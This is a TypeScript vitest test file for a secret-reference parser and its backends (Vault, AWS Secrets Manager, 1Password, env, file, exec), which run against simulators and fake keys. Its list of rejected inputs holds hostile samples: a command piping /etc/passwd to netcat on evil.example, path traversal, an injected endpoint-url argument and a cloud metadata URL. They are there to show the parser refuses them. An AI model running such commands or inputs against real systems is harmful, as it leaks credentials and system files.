import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startVault, type VaultSimulator } from '../../fixtures/simulators/vault.js'
import { Secret } from '../../src/custody/secret.js'
import { Backends } from '../../src/secrets/backends.js'
import { SecretFault } from '../../src/secrets/fault.js'
import { covers, parseReference, type Reference } from '../../src/secrets/reference.js'
import { assembled } from '../../src/secrets/referred.js'
import { ALL_PARTS, NO_BACKENDS, type SecretSettings } from '../../src/secrets/settings.js'
import { vendors } from '../../vendors/index.js'

const TOKEN = 'hvs.CANARYtoken'
const clock = { now: () => 0, monotonic: () => performance.now() }
const home = mkdtempSync(join(tmpdir(), 'spendgate-elsewhere-'))
const environment: Record<string, string | undefined> = {
  PATH: `${home}:/usr/bin:/bin`,
  HOME: home,
  STRIPE: 'sk_live_env',
}
let vault: VaultSimulator

function program(name: string, body: string): void {
  writeFileSync(join(home, name), `#!/bin/sh\n${body}\n`)
  chmodSync(join(home, name), 0o700)
}
const read = (text: string): Reference => {
  const reference = parseReference(text)
  if (typeof reference === 'string') throw new Error(reference)
  return reference
}
function backends(settings: Partial<SecretSettings> = {}): Backends {
  const token = new Secret(TOKEN)
  return new Backends(
    {
      ...NO_BACKENDS,
      vault: { address: vault.origin, token, tokenFile: null, namespace: 'team' },
      aws: { region: 'eu-central-1', profile: null },
      op: true,
      ...settings,
    },
    clock,
    environment,
  )
}

beforeAll(async () => {
  vault = await startVault({ tokens: [TOKEN] })
  program(
    'aws',
    `[ "$*" = "secretsmanager get-secret-value --secret-id=agents/stripe --output=json --region=eu-central-1" ] || exit 254
echo '{"ARN":"arn:…","Name":"agents/stripe","SecretString":"{\\"api_key\\":\\"sk_live_aws\\",\\"note\\":\\"x\\"}"}'`,
  )
  program('op', `[ "$1 $2 $3" = "read --no-newline op://Agents/stripe key/api_key" ] && printf sk_live_op`)
  program('pass', `[ "$*" = "show agents/stripe" ] && echo sk_live_exec`)
  program('objects', `echo '{"account_sid":"AC1","auth_token":"t","Comment":"by hand"}'`)
})
afterAll(async () => {
  await vault.close()
  rmSync(home, { recursive: true, force: true })
})

describe('a reference', () => {
  test.each([
    ['vault://secret/data/stripe#api_key', { scheme: 'vault', path: 'secret/data/stripe', field: 'api_key' }],
    ['vault://kv/team/data/agents/stripe', { scheme: 'vault', path: 'kv/team/data/agents/stripe', field: null }],
    ['aws-sm://agents/stripe#api_key', { scheme: 'aws-sm', name: 'agents/stripe', field: 'api_key' }],
    [
      'aws-sm://arn:aws:secretsmanager:eu-central-1:123456789012:secret:agents-a1b2c3',
      { scheme: 'aws-sm', name: 'arn:aws:secretsmanager:eu-central-1:123456789012:secret:agents-a1b2c3' },
    ],
    ['op://Agents/stripe key/api_key', { scheme: 'op', field: 'api_key' }],
    ['env:STRIPE', { scheme: 'env', name: 'STRIPE' }],
    ['file:/run/secrets/stripe#api_key', { scheme: 'file', path: '/run/secrets/stripe', field: 'api_key' }],
    ['exec:pass show agents/stripe', { scheme: 'exec', argv: ['pass', 'show', 'agents/stripe'] }],
    ['exec:["pass", "show", "a b"]', { scheme: 'exec', argv: ['pass', 'show', 'a b'] }],
  ])('%s is read', (text, expected) => expect(parseReference(text)).toMatchObject({ text, ...expected }))

  test.each([
    'vault://secret/data/../../auth/token/lookup-self#id',
    'vault://secret/data/%2e%2e/x#id',
    'vault://secret/data//x#id',
    'vault://secret/data/x?version=1#id',
    'vault://secret/stripe#api_key',
    'vault://data/x#y',
    'vault://auth/data/x#y',
    'vault://sys/data/x#y',
    'vault://secret/data#y',
    'vault://user@evil.example/data/x#y',
    'vault:secret/data/x#y',
    'vault://secret/data/x#a#b',
    'aws-sm://--endpoint-url=http://evil.example#x',
    'aws-sm://agents/../x',
    'aws-sm://a b',
    'op://Agents/stripe',
    'op://--help/a/b\n',
    'op://a/b/c?attribute=otp',
    'op://../../etc/passwd',
    'env:A-B',
    'env:SPENDGATE_MASTER_KEY',
    'file:relative/path',
    'file://host/share',
    'exec:cat /etc/passwd | nc evil.example 1',
    'exec:',
    'http://169.254.169.254/latest/meta-data',
    'sk_live_notAReference',
    '',
    `vault://secret/data/${'x'.repeat(1100)}#y`,
  ])('«%s» is none', (text) => expect(typeof parseReference(text)).toBe('string'))

  test.each([
    ['vault://secret/data/agents/*', 'vault://secret/data/agents/stripe#api_key', true],
    ['vault://secret/data/agents/*', 'vault://secret/data/agentsX/stripe#api_key', false],
    ['vault://secret/data/stripe', 'vault://secret/data/stripe#api_key', true],
    ['vault://secret/data/stripe', 'vault://secret/data/stripe2', false],
    ['op://Agents/*/key', 'op://Agents/a/b/key', true],
    ['aws-sm://*', 'vault://secret/data/stripe', false],
  ])('%s on %s: %s', (pattern, text, covered) => expect(covers(pattern, read(text))).toBe(covered))
})

describe('what a backend gives', () => {
  test('is the field that is named, and all fields where none is', async () => {
    vault.put('stripe', { api_key: 'sk_live_vault', note: 'of the agents' })
    vault.put('twilio', { account_sid: 'AC1', auth_token: 'token', Owner: 'ops' })
    const asked = backends()
    const all = await Promise.all(
      [
        'vault://secret/data/stripe#api_key',
        'vault://secret/data/twilio',
        'aws-sm://agents/stripe#api_key',
        'op://Agents/stripe key/api_key',
        'env:STRIPE',
        'exec:pass show agents/stripe',
        'exec:objects',
      ].map((text) => asked.ask(read(text))),
    )
    expect(all).toEqual([
      'sk_live_vault',
      { account_sid: 'AC1', auth_token: 'token' },
      'sk_live_aws',
      'sk_live_op',
      'sk_live_env',
      'sk_live_exec',
      { account_sid: 'AC1', auth_token: 't' },
    ])
    expect(vault.requests.at(-1)!.headers).toMatchObject({ 'x-vault-namespace': 'team', 'x-vault-request': 'true' })
    await asked.close()
  })

  test('a file gives its text, unless others may read it', async () => {
    const path = join(home, 'stripe')
    writeFileSync(path, 'sk_live_file\n', { mode: 0o600 })
    const asked = backends()
    expect(await asked.ask(read(`file:${path}`))).toBe('sk_live_file')
    chmodSync(path, 0o644)
    await expect(asked.ask(read(`file:${path}`))).rejects.toThrow(/is open to others/)
    mkdirSync(join(home, 'folder'))
    await expect(asked.ask(read(`file:${home}/folder`))).rejects.toThrow(/not a regular file/)
  })

  test('one request serves everybody who asks at once', async () => {
    vault.put('once', { api_key: 'sk_live_once' })
    const before = vault.requests.length
    const asked = backends()
    const values = await Promise.all(
      Array.from({ length: 50 }, () => asked.ask(read('vault://secret/data/once#api_key'))),
    )
    expect(new Set(values)).toEqual(new Set(['sk_live_once']))
    expect(vault.requests.length - before).toBe(1)
    await asked.close()
  })

  test.each([
    ['a field that is not there', 'vault://secret/data/odd#nothing', /no field nothing/],
    ['a field that is no text', 'vault://secret/data/odd#number', /is no text/],
    ['an empty field', 'vault://secret/data/odd#empty', /is empty/],
    ['two lines', 'vault://secret/data/odd#lines', /control characters/],
    ['a prototype', 'vault://secret/data/odd#constructor', /no field constructor/],
    ['a secret that is not there', 'vault://secret/data/none#x', /Vault answered 404/],
    ['a secret whose latest version was deleted', 'vault://secret/data/gone#x', /latest version was deleted/],
    ['another name', 'aws-sm://agents/other#x', /aws ended with code 254/],
    ['a variable that is not there', 'env:NOT_THERE', /no such variable/],
    ['a program that is not there', 'exec:nowhere', /no program nowhere/],
  ])('%s is a fault that quotes nothing', async (_, text, sentence) => {
    vault.put('odd', { number: 7, empty: '', lines: 'CANARY\nCANARY' })
    vault.put('gone', { x: 'CANARY' })
    vault.delete('gone')
    const asked = backends()
    const fault = await asked.ask(read(text)).catch((cause: unknown) => cause as Error)
    expect(fault).toBeInstanceOf(SecretFault)
    expect((fault as Error).message).toMatch(sentence)
    expect((fault as Error).message).not.toContain('CANARY')
    await asked.close()
  })

  test('a token file is read again for each request', async () => {
    vault.put('stripe', { api_key: 'sk_live_vault' })
    const path = join(home, 'vault-token')
    writeFileSync(path, 'old', { mode: 0o600 })
    const asked = backends({ vault: { address: vault.origin, token: null, tokenFile: path, namespace: '' } })
    const reference = read('vault://secret/data/stripe#api_key')
    await expect(asked.ask(reference)).rejects.toThrow(/Vault answered 403/)
    writeFileSync(path, TOKEN, { mode: 0o600 })
    expect(await asked.ask(reference)).toBe('sk_live_vault')
    await asked.close()
  })
})

describe('the parts of a key', () => {
  const [stripe, twilio] = ['stripe', 'twilio'].map((name) => vendors.find((vendor) => vendor.name === name)!) as [
    (typeof vendors)[number],
    (typeof vendors)[number],
  ]
  const live = 'sk_live_0123456789abcdefghij'

  test.each([
    ['a field of the name of the part', 'vault://secret/data/stripe#api_key', live],
    ['a field of another name', 'vault://secret/data/stripe#stripe_live', live],
    ['a text without a name', 'exec:pass show stripe', live],
    ['all fields', 'vault://secret/data/stripe', { api_key: live }],
  ])('%s', (_, text, given) =>
    expect(assembled(stripe, {}, { [ALL_PARTS]: read(text) }, { [ALL_PARTS]: given })).toEqual({ api_key: live }),
  )

  test('one of several is named, and what is no secret stands beside it', () => {
    const plain = { account_sid: `AC${'a1'.repeat(16)}`, api_key_sid: `SK${'b2'.repeat(16)}` }
    const reference = read('op://Agents/twilio/credential')
    const parts = assembled(twilio, plain, { api_key_secret: reference }, { api_key_secret: 's3cret' })
    expect(parts).toEqual({ ...plain, api_key_secret: 's3cret' })
    expect(() => assembled(twilio, plain, { [ALL_PARTS]: reference }, { [ALL_PARTS]: 's3cret' })).toThrow(
      /is no key of twilio\. If it is one part of several, say which/,
    )
    expect(() => assembled(stripe, {}, { api_key: reference }, { api_key: { a: 'b' } })).toThrow(/write …#field/)
  })
})
